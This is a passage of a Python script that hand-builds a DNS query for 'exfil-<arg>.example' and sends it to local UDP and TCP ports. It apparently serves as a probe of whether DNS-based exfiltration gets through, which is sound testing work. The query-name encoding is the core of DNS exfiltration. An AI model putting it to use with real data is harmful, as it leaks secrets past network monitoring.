U4, T4 = int(sys.argv[2]), int(sys.argv[3])
name = f"exfil-{sys.argv[1]}.example"
q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, ("127.0.0.1", U4)); print("udp query sent")
except OSError as e:
    print("udp query error", ename(e.errno))
try:
    s = socket.create_connection(("127.0.0.1", T4), timeout=3); s.sendall(struct.pack("!H", len(q)) + q); print("tcp query sent")
except OSError as e:
    print("tcp query error", e)
